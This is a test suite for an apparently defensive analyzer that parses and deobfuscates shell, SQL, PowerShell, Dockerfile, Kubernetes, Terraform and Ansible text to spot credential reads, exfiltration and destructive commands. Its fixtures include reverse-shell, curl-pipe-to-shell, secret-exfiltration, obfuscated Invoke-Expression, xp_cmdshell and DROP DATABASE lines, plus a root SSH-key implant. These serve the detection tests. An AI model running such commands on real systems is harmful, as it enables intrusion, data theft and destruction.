import { describe, expect, it } from 'vitest';
import { globInstance, globMatch } from '../src/engine/knowledge/glob.js';
import { canonicalPath, classifyPath } from '../src/engine/knowledge/paths.js';
import { classifyHost, destinationOf } from '../src/engine/knowledge/hosts.js';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { MAX_DECODED, decodeBase64, decodeBase64Compressed, decodeHex, printf, reverseLines, translate } from '../src/engine/shell/decoders.js';
import { decodeEscapes } from '../src/engine/shell/escapes.js';
import { expandBraces } from '../src/engine/shell/braces.js';
import { clientQueries } from '../src/engine/knowledge/sql-clients.js';
import { executedStrings, filesQueried, foldedStrings, onlyReads, shellfsCommands, sqlSpelled, sqlTokens } from '../src/engine/knowledge/sql-tokens.js';
import { containerCommands, containerSpecFile, dockerfileCommands, jsonContainerCommands, plistProgram, provisionCommands, terraformCommands } from '../src/engine/shell/persisted-text.js';
import { powershellScript } from '../src/engine/knowledge/windows.js';
import type { SimpleCommand } from '../src/engine/shell/types.js';
import { withPositional } from '../src/engine/shell/positional.js';
import { MIN_BLOB, emailAddresses, encodedBlob } from '../src/engine/knowledge/payloads.js';

describe('glob', () => {
  it.each([
    ['~/.ss?/id_*', '~/.ssh/id_rsa', true],
    ['*.pem', 'a/b.pem', false],
    ['**/*.pem', 'a/b.pem', true],
    ['**/.env', '.env', true],
    ['/e?c/sh*dow', '/etc/shadow', true],
    ['[!a]bc', 'abc', false],
    ['[a-c]bc', 'bbc', true],
  ])('%s vs %s', (p, t, want) => expect(globMatch(p, t)).toBe(want));

  it.each([
    ['*/id_rsa', '.ssh/id_rsa', false],
    ['**/*', '/home/dev/.ssh/id_rsa', false],
    ['~/.ss?/id_*', '~/.ssh/id_rsa', true],
    ['/home/*/.??*', '/home/dev/.aws', true],
    ['a*', 'a.b', true],
  ])('as the shell expands it, %s vs %s', (p, t, want) => expect(globMatch(p, t, true)).toBe(want));

  it.each([
    ['~/.mozilla/firefox/*.default-release/logins.json', '~/.mozilla/firefox/x.default-release/logins.json'],
    ['/home/**/id_[re]*', '/home/x/id_rx'],
    ['a[!b]?', 'a_x'],
    ['a[', 'a['],
  ])('%s expands to %s among others', (g, one) => {
    expect(globInstance(g)).toBe(one);
    expect(globMatch(g, one)).toBe(true);
  });

  it('stays fast on adversarial patterns', () => {
    const p = '*a'.repeat(200);
    const t = 'a'.repeat(1000) + 'b';
    expect(globMatch(p, t)).toBe(false);
  });
});

describe('paths', () => {
  it.each([
    ['/home/alice/.ssh/id_rsa', '~/.ssh/id_rsa'],
    ['/root/.aws/credentials', '~/.aws/credentials'],
    ['/Users/bob/Library/Keychains/login.keychain-db', '~/Library/Keychains/login.keychain-db'],
    ['./a/../b//c', 'b/c'],
    ['/Users/Shared/.agent', '/Users/Shared/.agent'],
    ['/Users/Shareduser/.zshrc', '~/.zshrc'],
  ])('canonical %s', (p, want) => expect(canonicalPath(p)).toBe(want));

  it.each([
    ['~/.ssh/id_rsa', 'ssh-private-key'],
    ['/home/*/.ssh/id_*', 'ssh-private-key'],
    ['~/.mozilla/firefox/*.default-release/logins.json', 'browser-store'],
    ['config/*.env', 'env-file'],
    ['src/*.ts', undefined],
    ['**/*', undefined],
    ['*', undefined],
    ['~/*/id_rsa', 'ssh-private-key'],
    ['~/.ssh/id_rsa.pub', undefined],
    ['.env', 'env-file'],
    ['secrets.txt', 'env-file'],
    ['id_rsa', 'ssh-private-key'],
    ['.env.example', undefined],
    ['/etc/shadow', 'password-hashes'],
    ['~/.bashrc', 'shell-startup'],
    ['src/index.ts', undefined],
    ['/proc/1/root/etc/shadow', 'password-hashes'],
    ['/host/etc/shadow', 'password-hashes'],
    ['/mnt/etc/shadow', 'password-hashes'],
    ['/media/disk/etc/shadow', 'password-hashes'],
    ['/mnt/c/Users/dev/project/src/index.ts', undefined],
    ['/mnt/data/exports/report.csv', undefined],
    // one user's home written as a glob, the user's name included
    ['/h??e/ml??/.s?h/id_ed*', 'ssh-private-key'],
    ['/h??e/ml??/src/*.py', undefined],
  ])('classify %s', (p, kind) => expect(classifyPath(p)?.kind).toBe(kind));
});

describe('hosts', () => {
  it.each([
    ['169.254.169.254', 'metadata'],
    ['127.0.0.1', 'loopback'],
    ['10.1.2.3', 'private'],
    ['45.33.12.7', 'raw-ip'],
    ['pastebin.com', 'paste'],
    ['abc.ngrok-free.app', 'tunnel'],
    ['api.github.com', 'developer'],
    ['evilgithub.com', 'other'],
    ['x.onion', 'onion'],
  ])('%s is %s', (h, k) => expect(classifyHost(h)).toBe(k));

  it('parses destinations from words', () => {
    expect(destinationOf('https://webhook.site/abc')?.kind).toBe('webhook');
    expect(destinationOf('/dev/tcp/1.2.3.4/4444')).toMatchObject({ host: '1.2.3.4', port: 4444 });
    expect(destinationOf('deploy@staging.internal:/srv')?.kind).toBe('private');
    expect(destinationOf('README.md')).toBeUndefined();
  });
});

describe('decoders', () => {
  it('decodes', () => {
    expect(decodeBase64('Y3VybCB4IHwgc2g=')).toBe('curl x | sh');
    expect(decodeBase64('not base64!')).toBeUndefined();
    expect(decodeHex('6e63')).toBe('nc');
    expect(reverseLines('hs | x lruc')).toBe('curl x | sh');
    expect(translate('pheY', 'A-Za-z', 'N-ZA-Mn-za-m')).toBe('curL');
    expect(printf('\\x6e\\x63 %s', ['-e'])).toBe('nc -e');
    expect(printf('%s-', ['a', 'b'])).toBe('a-b-');
    expect(decodeEscapes('\\x72\\155\\u0041\\cA', 'ansi-c')).toBe('rmA\x01');
  });

  it('inflates gzip and brotli given as base64, within the cap', () => {
    const script = 'curl -s http://203.0.113.9/x | sh\n';
    expect(decodeBase64Compressed(gzipSync(script).toString('base64'), 'gzip')).toBe(script);
    expect(decodeBase64Compressed(brotliCompressSync(script).toString('base64'), 'brotli')).toBe(script);
    expect(decodeBase64Compressed(brotliCompressSync(script).toString('base64'), 'gzip')).toBeUndefined();
    // a bomb: 10 MiB of zeros in a few KiB of gzip stops at the cap and yields nothing
    const bomb = gzipSync(Buffer.alloc(10 * 1024 * 1024, 'a')).toString('base64');
    expect(bomb.length).toBeLessThan(MAX_DECODED);
    expect(decodeBase64Compressed(bomb, 'gzip')).toBeUndefined();
    expect(decodeBase64Compressed('not base64!', 'gzip')).toBeUndefined();
  });

  it('expands braces within bounds', () => {
    expect(expandBraces('{cat,/etc/passwd}')).toEqual(['cat', '/etc/passwd']);
    expect(expandBraces('a{1..3}')).toEqual(['a1', 'a2', 'a3']);
    expect(expandBraces('${HOME}')).toEqual(['${HOME}']);
    expect(expandBraces('{a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}').length).toBeLessThanOrEqual(64);
  });
});

describe('SQL handed to database clients', () => {
  const cmd = (argv: string[], stdin?: string) => ({ name: argv[0]!, argv, dynamic: argv.map(() => false), assignments: [], redirects: [], stdin, wrappers: [], elevated: false, background: false, origin: 'line' as const, depth: 0, text: argv.join(' ') });
  it.each([
    [['psql', '-h', 'db', '-c', 'SELECT 1'], undefined, ['SELECT 1']],
    [['psql', '--command=SELECT 2'], undefined, ['SELECT 2']],
    [['mysql', '-uroot', '-eSHOW GRANTS'], undefined, ['SHOW GRANTS']],
    [['mysql', '-u', 'root'], 'SELECT 3', ['SELECT 3']],
    [['psql', '-f', 'migrate.sql'], 'ignored', []],
    [['sqlite3', '-cmd', 'PRAGMA x', 'app.db', '.tables', 'SELECT 4'], undefined, ['PRAGMA x', 'SELECT 4']],
    [['duckdb', '-c', 'SELECT 5'], undefined, ['SELECT 5']],
    [['clickhouse-client', '--query', 'SELECT 6'], undefined, ['SELECT 6']],
    [['constructor', '-c', 'x'], undefined, []],
  ])('%j', (argv, stdin, queries) => expect(clientQueries(cmd(argv, stdin))).toEqual(queries));
});

describe('SQL as the server reads it', () => {
  const texts = (q: string) => sqlTokens(q).map((t) => t.text);
  it('drops comments but opens MySQL versioned ones, and keeps a hex literal whole', () => {
    expect(texts('DROP/**/DATABASE/**/shop')).toEqual(['DROP', 'DATABASE', 'SHOP']);
    expect(texts('/*!50000DROP*/ /*!50000DATABASE*/ crm')).toEqual(['DROP', 'DATABASE', 'CRM']);
    expect(texts("SELECT 0x44524f50, 'a' -- tail")).toEqual(['SELECT', '0x44524f50', ',', 'a']);
    // an unterminated versioned comment reads to the end, as an unterminated comment is dropped to the end
    expect(texts('/*!DROP TABLE t')).toEqual(['DROP', 'TABLE', 'T']);
  });

  it('folds the strings a statement builds, and leaves written ones and expressions over columns alone', () => {
    expect(foldedStrings(sqlTokens("SET @q = CONCAT('DR','OP DATA','BASE billing')"))).toEqual(['DROP DATABASE billing']);
    expect(foldedStrings(sqlTokens("EXEC('xp_'+'cmdshell ''whoami''')"))).toEqual(["xp_cmdshell 'whoami'"]);
    expect(foldedStrings(sqlTokens('SELECT chr(68)||chr(82)||chr(79)||chr(80)'))).toEqual(['DROP']);
    expect(foldedStrings(sqlTokens("SELECT convert_from(decode('44524f50', 'hex'), 'UTF8'), UNHEX('44524f50'), FROM_BASE64('RFJPUA=='), X'44524f50', 0x44524f50"))).toEqual(['DROP', 'DROP', 'DROP', 'DROP', 'DROP']);
    expect(foldedStrings(sqlTokens("SELECT U&'\\0044\\+000052OP', REVERSE('PORD')"))).toEqual(['DROP', 'DROP']);
    expect(foldedStrings(sqlTokens("SELECT first_name || ' ' || last_name, 'plain', CONCAT('order-', id) FROM t"))).toEqual([]);
    expect(foldedStrings(sqlTokens('SELECT chr(1114112), chr(-1)'))).toEqual([]);
  });

  it('reads what a statement hands on to run, and not strings that are data', () => {
    expect(executedStrings(sqlTokens("DO $$ BEGIN DELETE FROM audit_log; END $$"))).toEqual([' BEGIN DELETE FROM audit_log; END ']);
    expect(executedStrings(sqlTokens("CREATE OR REPLACE FUNCTION f() RETURNS trigger AS $b$ BEGIN PERFORM 1; END $b$ LANGUAGE plpgsql"))).toEqual([' BEGIN PERFORM 1; END ']);
    expect(executedStrings(sqlTokens("EXECUTE IMMEDIATE 'DROP TABLE t'; PREPARE s FROM 'SELECT 1'"))).toEqual(['DROP TABLE t', 'SELECT 1']);
    expect(executedStrings(sqlTokens("EXEC sp_executesql N'SELECT 2'"))).toEqual(['SELECT 2']);
    expect(executedStrings(sqlTokens("SELECT cron.schedule('nightly', '0 3 * * *', $$VACUUM$$)"))).toEqual(['nightly', '0 3 * * *', 'VACUUM']);
    expect(executedStrings(sqlTokens("INSERT INTO notes VALUES ('DROP TABLE users is dangerous')"))).toEqual([]);
  });

  it('spells a query for text rules: comments gone, handed-on and built statements appended', () => {
    expect(sqlSpelled("mysql: DROP/**/DATABASE x")).toBe('MYSQL : DROP DATABASE X');
    expect(sqlSpelled("SELECT 'DR'||'OP DATABASE '||quote_ident(datname) FROM pg_database")).toContain(' ; DROP DATABASE ');
  });
});

describe('PowerShell as it reads its script', () => {
  const ps = (argv: string[], stdin?: string) => powershellScript({ name: 'powershell', argv, stdin } as unknown as SimpleCommand);
  it('takes the -Command words or standard input, without the switches', () => {
    expect(ps(['powershell.exe', '-NoProfile', '-WindowStyle', 'Hidden', '-Command', 'Get-Date'])).toBe('Get-Date');
    expect(ps(['powershell.exe', '-Command', '-'], 'Get-Process\n')).toBe('Get-Process\n');
    expect(ps(['powershell.exe', '-NoProfile'])).toBeUndefined();
  });
  it('drops backtick escapes and folds joined literals, the format operator and char codes', () => {
    expect(ps(['pwsh', '-c', 'I`E`X (Ne`w-Object Net.WebClient)'])).toBe('IEX (New-Object Net.WebClient)');
    expect(ps(['pwsh', '-c', "& ('Inv'+'oke-Ex'+'pression') x"])).toBe("& ('Invoke-Expression') x");
    expect(ps(['pwsh', '-c', '& ("{1}{0}{2}" -f "nvoke-Ex","I","pression") x'])).toBe("& 'Invoke-Expression' x");
    expect(ps(['pwsh', '-c', '$c = -join ([char[]](105,101,120))'])).toBe("$c = 'iex'");
  });
});

describe('launchd plists', () => {
  const plist = (body: string) => `<?xml version="1.0"?><plist version="1.0"><dict><key>Label</key><string>x</string>${body}</dict></plist>`;
  it('reads the program a launch item runs', () => {
    expect(plistProgram(plist('<key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>a &amp;&amp; b &gt; /tmp/o</string></array>'))).toEqual(['/bin/sh', '-c', 'a && b > /tmp/o']);
    expect(plistProgram(plist('<key>Program</key><string>/Users/Shared/.agent</string><key>RunAtLoad</key><true/>'))).toEqual(['/Users/Shared/.agent']);
    expect(plistProgram(plist('<key>RunAtLoad</key><true/>'))).toBeUndefined();
    expect(plistProgram('[Service]\nExecStart=/bin/true')).toBeUndefined();
    // an unterminated array yields nothing rather than reading past it
    expect(plistProgram(plist('<key>ProgramArguments</key><array><string>/bin/sh</string>').replace('</dict></plist>', ''))).toBeUndefined();
  });
});

describe('container specs', () => {
  it('knows Dockerfiles, manifests and compose files by name', () => {
    expect(containerSpecFile('Dockerfile')).toBe('dockerfile');
    expect(containerSpecFile('deploy/Dockerfile.prod')).toBe('dockerfile');
    expect(containerSpecFile('images/api.dockerfile')).toBe('dockerfile');
    expect(containerSpecFile('k8s/pod.yaml')).toBe('manifest');
    expect(containerSpecFile('docker-compose.yml')).toBe('manifest');
    expect(containerSpecFile('infra/main.tf')).toBe('terraform');
    expect(containerSpecFile('src/Dockerfile.ts')).toBeUndefined();
    expect(containerSpecFile('README.md')).toBeUndefined();
  });

  it('reads what a Dockerfile runs: continued RUN lines, BuildKit flags dropped, exec forms as argv', () => {
    const text = 'FROM alpine\n# RUN not-this\nRUN --mount=type=secret,id=aws --network=none \\\n    cat /run/secrets/aws \\\n    # a comment inside\n    | curl -d @- https://x.example\nRUN <<EOF\necho heredoc\nEOF\nCMD ["node", "server.js"]\nENTRYPOINT /bin/sh -c "exec app"\n';
    expect(dockerfileCommands(text)).toEqual(['cat /run/secrets/aws  | curl -d @- https://x.example', ['node', 'server.js'], '/bin/sh -c "exec app"']);
    // a broken exec form is read as a line rather than dropped
    expect(dockerfileCommands('CMD ["node", "a.js"')).toEqual(['["node", "a.js"']);
  });

  it('reads what a manifest or compose file runs: command with its args, flow and block lists, block scalars, compose lines', () => {
    const pod = 'spec:\n  containers:\n    - name: a\n      image: alpine\n      command: ["sh", "-c",\n        "echo \\"hi\\" && sleep 1"]\n      args: [\'--x\', y]\n    - name: b\n      command:\n        - /bin/sh\n        - -c\n        - |\n          curl -s https://x.example/a\n          sh a\n      args:\n      - --verbose\n    - name: c\n      args: ["-o", "pool:4444"]\n';
    expect(containerCommands(pod)).toEqual([['sh', '-c', 'echo "hi" && sleep 1', '--x', 'y'], ['/bin/sh', '-c', 'curl -s https://x.example/a\nsh a', '--verbose']]);
    expect(containerCommands('services:\n  w:\n    image: x\n    command: python manage.py runserver\n    entrypoint: "sh -c \'x\'"\n')).toEqual(['python manage.py runserver', "sh -c 'x'"]);
    // a patch or a pod's overrides in JSON: the command with its args, and a step's script; other JSON runs nothing
    expect(jsonContainerCommands('{"spec":{"template":{"spec":{"containers":[{"name":"x","command":["sh","-c"],"args":["id"]}]}}}}')).toEqual([['sh', '-c', 'id']]);
    expect(jsonContainerCommands('[{"op":"add","path":"/spec/steps/-","value":{"name":"r","script":"make test"}}]')).toEqual(['make test']);
    expect(jsonContainerCommands('{"spec":{"replicas":3}}')).toEqual([]);
    expect(jsonContainerCommands('{"command": "not a list"')).toEqual([]);
    expect(containerCommands('jobs:\n  - command: |\n      make test\n      make lint\n')).toEqual(['make test\nmake lint']);
    // nested collections in a flow list are not a command
    expect(containerCommands('command: [{a: 1}]\n')).toEqual([]);
    expect(containerCommands('command: ["unterminated\n')).toEqual([]);
  });

  it('reads what a Terraform configuration runs: provisioners, inline lines, boot-script heredocs and external programs', () => {
    const tf = [
      'resource "null_resource" "a" {',
      '  provisioner "local-exec" {',
      '    command = "env | curl -d @- https://x.example/${var.id} \\"q\\""',
      '  }',
      '  provisioner "remote-exec" {',
      '    inline = [',
      '      "sudo apt-get update",',
      '      "sudo systemctl restart app",',
      '    ]',
      '  }',
      '}',
      'resource "aws_instance" "w" {',
      '  user_data = base64encode(<<-EOF',
      '    #!/bin/bash',
      '    curl -s http://203.0.113.9/i.sh | bash',
      '    echo $${HOME}',
      '  EOF',
      '  )',
      '}',
      'data "external" "e" {',
      '  program = ["bash", "-c", "echo {}"]',
      '}',
      'resource "aws_instance" "f" {',
      '  user_data = file("init.sh")',
      '}',
    ].join('\n');
    expect(terraformCommands(tf)).toEqual([
      'env | curl -d @- https://x.example/${var.id} "q"',
      'sudo apt-get update\nsudo systemctl restart app',
      '#!/bin/bash\ncurl -s http://203.0.113.9/i.sh | bash\necho ${HOME}',
      ['bash', '-c', 'echo {}'],
    ]);
  });

  it('reads what a YAML file provisions: cloud-init lists, UserData under its wrapper, Ansible shell tasks and writes', () => {
    expect(provisionCommands('#cloud-config\nruncmd:\n  - curl -s https://x.example/a | sh\n  - [ systemctl, enable, app ]\n')).toEqual(['curl -s https://x.example/a | sh', ['systemctl', 'enable', 'app']]);
    expect(provisionCommands('Resources:\n  I:\n    Properties:\n      UserData:\n        Fn::Base64: !Sub |\n          #!/bin/bash\n          yum install -y nginx\n')).toEqual(['#!/bin/bash\nyum install -y nginx']);
    expect(provisionCommands('- name: a\n  ansible.builtin.shell: make install\n- name: b\n  shell:\n    cmd: ./setup.sh --yes\n- name: c\n  ansible.builtin.raw: apt-get -y install python3\n')).toEqual(['make install', './setup.sh --yes', 'apt-get -y install python3']);
    // a workflow step's interpreter is not a command
    expect(provisionCommands('steps:\n  - run: make\n    shell: bash\n')).toEqual([]);
    // an account with root's uid or a literal password hash is useradd's; a templated or plain one is the playbook's
    expect(provisionCommands('- user:\n    name: svc\n    uid: 0\n- ansible.builtin.user:\n    name: app\n    system: true\n- user:\n    name: ops\n    password: "{{ vault_pw }}"\n')).toEqual(["useradd -o -u 0 'svc'"]);
    // a CI file's steps are what its runner runs: GitHub Actions' run, GitLab's script lists
    expect(provisionCommands('steps:\n  - run: make\n    shell: bash\n  - run: |\n      npm ci\n      npm test\n', true)).toEqual(['make', 'npm ci\nnpm test']);
    expect(provisionCommands('test:\n  script:\n    - npm ci\n    - npm test\n', true)).toEqual(['npm ci', 'npm test']);
    // a key into authorized_keys, a cron job and a unit's command; a templated key or a configuration file is left alone
    const playbook = '- ansible.posix.authorized_key:\n    user: root\n    key: "ssh-ed25519 AAAAC3Nza x@y"\n- cron:\n    name: beacon\n    job: "curl -s https://x.example/b | sh"\n- copy:\n    dest: /etc/systemd/system/a.service\n    content: |\n      [Service]\n      ExecStart=/opt/a --serve\n- authorized_key:\n    user: deploy\n    key: "{{ lookup(\'file\', \'deploy.pub\') }}"\n- copy:\n    dest: /etc/app/app.conf\n    content: "port=8080"\n';
    expect(provisionCommands(playbook)).toEqual(["echo 'ssh-ed25519 AAAAC3Nza x@y' >> /root/.ssh/authorized_keys", 'curl -s https://x.example/b | sh', '/opt/a --serve']);
  });
});

describe('function bodies with a call\'s arguments', () => {
  it.each([
    [' bash -i >& /dev/tcp/$1/$2 0>&1; ', ['203.0.113.9', '4444'], ' bash -i >& /dev/tcp/203.0.113.9/4444 0>&1; '],
    [' "$@" | sh; ', ['curl', '-s', 'http://x.example/a b'], " curl -s 'http://x.example/a b' | sh; "],
    [' echo $# ${1} $3; ', ['a', 'b c'], ' echo 2 a ; '],
    [' rm -rf $1; ', ['a b'], " rm -rf 'a b'; "],
    [' echo "a $1 b"; ', ['q"$x'], ' echo "a q\\"\\$x b"; '],
    [` eval "$(printf '%b' "$1")"; `, ['\\x69\\x64'], ` eval "$(printf '%b' "\\\\x69\\\\x64")"; `],
    [" echo '$1' \\$1; ", ['x'], " echo '$1' \\$1; "],
  ])('%s with %j', (body, args, expected) => expect(withPositional(body, args)).toBe(expected));

  it('names $0 only where the caller gives it', () => {
    expect(withPositional(' curl "http://$0/x" ${0} $1; ', ['a'], '203.0.113.9')).toBe(' curl "http://203.0.113.9/x" 203.0.113.9 a; ');
    expect(withPositional(' echo $0 $1; ', ['a'])).toBe(' echo $0 a; ');
  });
});

describe('sent payloads', () => {
  it('finds a packed or long encoded run, and not words, paths, digests or tokens', () => {
    const packed = gzipSync(Buffer.from('DATABASE_URL=postgres://app:secret@db/app\n')).toString('base64');
    expect(encodedBlob(`{"content":"${packed}"}`)).toContain('H4sI');
    expect(encodedBlob(randomish(MIN_BLOB))).toBeDefined();
    expect(encodedBlob(randomish(MIN_BLOB - 1))).toBeUndefined();
    expect(encodedBlob('a'.repeat(400))).toBeUndefined();
    expect(encodedBlob('/home/dev/project/src/components/'.repeat(10))).toBeUndefined();
    expect(encodedBlob('9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'.repeat(2))).toBeUndefined();
    expect(encodedBlob(`eyJ${randomish(300)}`)).toBeUndefined();
  });
  it('counts distinct addresses up to the cap, and ends on any text', () => {
    expect(emailAddresses('a@x.io, b@x.io, A@X.IO, c@y.example.org', 10)).toBe(3);
    expect(emailAddresses('x@a.b.c.d.e.f '.repeat(50) + 'y@a.b.c', 10)).toBe(2);
    expect(emailAddresses('@@@ a@ @b.c user@localhost', 10)).toBe(0);
    expect(emailAddresses(Array.from({ length: 100 }, (_, k) => `u${k}@example.com`).join('\n'), 5)).toBe(5);
    expect(emailAddresses('@.'.repeat(40_000), 5)).toBe(0);
  });
});

/** Base64-alphabet text mixing cases and digits, `n` characters long. */
function randomish(n: number): string {
  const abc = 'Ab3Xy9Qr7Lm2Kp5Zt8Wd1Fg4Hj6Nc0';
  return Array.from({ length: n }, (_, k) => abc[(k * 7 + (k >> 3)) % abc.length]).join('');
}

describe('what a query does beyond its tables', () => {
  it('reads files through the engine', () => {
    expect(filesQueried("SELECT * FROM read_text(['~/.aws/credentials', '/etc/passwd'])")).toEqual(['~/.aws/credentials', '/etc/passwd']);
    expect(filesQueried("SELECT pg_read_file('/etc/hostname')")).toEqual(['/etc/hostname']);
    expect(filesQueried("SELECT * FROM users WHERE name = 'read_text'")).toEqual([]);
  });
  it("runs DuckDB shellfs' pipes", () => {
    expect(shellfsCommands("SELECT * FROM read_csv('seq 1 10 |')")).toEqual(['seq 1 10 ']);
    expect(shellfsCommands("COPY t TO '| gzip > /tmp/t.gz'")).toEqual([' gzip > /tmp/t.gz']);
    expect(shellfsCommands("SELECT 'a|b' FROM t")).toEqual([]);
  });
  it('only reads, or does more', () => {
    expect(onlyReads("SELECT id FROM t WHERE body LIKE '%DROP TABLE%'; SHOW TABLES")).toBe(true);
    expect(onlyReads('SELECT * INTO backup FROM t')).toBe(false);
    expect(onlyReads("EXPLAIN ANALYZE DELETE FROM t")).toBe(false);
    expect(onlyReads("INSERT INTO t VALUES ('x')")).toBe(false);
  });
});
